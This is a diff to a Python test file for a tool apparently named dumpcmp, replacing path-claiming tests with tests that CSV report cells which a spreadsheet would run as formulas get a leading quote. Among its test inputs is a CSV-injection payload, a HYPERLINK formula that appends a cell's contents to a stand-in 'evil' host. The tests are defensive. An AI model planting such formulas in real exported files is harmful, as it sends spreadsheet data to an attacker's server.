@@ -2,9 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import math
-from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
 from pathlib import Path
 
@@ -14,9 +14,10 @@ from dumpcmp.errors import OutputError
 from dumpcmp.host.core import OFFLINE_DATA, ComparePlan
 from dumpcmp.host.metrics.offline_data import MetricValues
 from dumpcmp.host.pipeline import CompareOptions
+from dumpcmp.host.report.table import read_result, table_from_cells
 from dumpcmp.host.rows import ResultRow
 from dumpcmp.host.session import ResultSettings
-from dumpcmp.host.sinks.csv_file import claim_new_path
+from dumpcmp.host.sinks.csv_file import row_lines, write_csv
 from dumpcmp.host.sinks.table import TableShape
 from dumpcmp.host.sinks.xlsx_file import write_xlsx
 from dumpcmp.host.verdict import Thresholds
@@ -84,20 +85,47 @@ def test_xlsx_that_the_disk_refuses_leaves_no_half_closed_zip(
     gc.collect()
 
 
-def test_claimed_result_names_never_repeat(tmp_path: Path) -> None:
-    first = tmp_path / "result_1.csv"
-    first.write_text("kept")
-    with ThreadPoolExecutor(4) as pool:
-        claimed = list(pool.map(lambda _: claim_new_path(first), range(8)))
-    assert sorted(p.name for p in claimed) == sorted(f"result_1_{n}.csv" for n in range(1, 9))
-    assert first.read_text() == "kept"
+# Names a spreadsheet runs as formulas when it opens the CSV (CSV injection, OWASP): each gets a
+# leading quote, and so does a name that starts with one (reading back is then exact).
+# (A carriage return, also a formula start, is left out: the CSV writer, ending lines with "\n",
+# does not quote a cell holding one, and the row breaks there whatever the first character.)
+_FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-x", "@SUM(A1)", "\tname", "'q", "'=x"]
+_NAME_COLUMNS = ("OpType", "NPUDump", "GroundTruth", "TensorIndex")
 
 
-@pytest.mark.parametrize("under", ["file", "file/sub"])
-def test_claim_under_a_file_is_one_line(tmp_path: Path, under: str) -> None:
-    (tmp_path / "file").write_text("x")
-    with pytest.raises(OutputError, match=rf"^cannot write .*{under}/r\.csv: "):
-        claim_new_path(tmp_path / under / "r.csv")
+@pytest.mark.parametrize("as_text", [False, True], ids=["rows", "worker-lines"])
+@pytest.mark.parametrize("name", _FORMULAS)
+def test_csv_names_a_spreadsheet_would_run_are_quoted_and_read_back(
+    tmp_path: Path, name: str, as_text: bool
+) -> None:
+    row = replace(
+        _row(0, -0.5), op_type=name, npu_name=name, ground_truth=name, tensor_index=f"{name}:output:0"
+    )
+    shape = TableShape(op_sequence=True)
+    text = [(0, row_lines([row], shape))] if as_text else []
+    path = write_csv(tmp_path / "r.csv", [row], shape, text)
+    with path.open(newline="", encoding="utf-8") as handle:
+        header, cells = list(csv.reader(handle))
+    written = dict(zip(header, cells, strict=False))
+    assert [written[column] for column in _NAME_COLUMNS] == [
+        "'" + name,
+        "'" + name,
+        "'" + name,
+        f"'{name}:output:0",
+    ]
+    assert written["CosineSimilarity"] == "-0.500000"  # numbers are numbers, signs included
+    # read back as the cells themselves read (the parser's own take on a name is not this test's)
+    assert read_result(path).targets() == table_from_cells([shape.header(), shape.cells(row)]).targets()
+
+
+def test_csv_of_plain_names_is_as_cann_writes_it(tmp_path: Path) -> None:
+    row = replace(_row(0, 0.5), npu_name="/block2/Add", ground_truth="/block2/Add,/block2/act/Relu")
+    path = write_csv(tmp_path / "r.csv", [row], TableShape())
+    assert (
+        path.read_text()
+        .splitlines()[1]
+        .startswith('0,Add,/block2/Add,DT_FLOAT,"/block2/Add,/block2/act/Relu",')
+    )
 
 
 def _fills(sheet: object) -> list[str]:
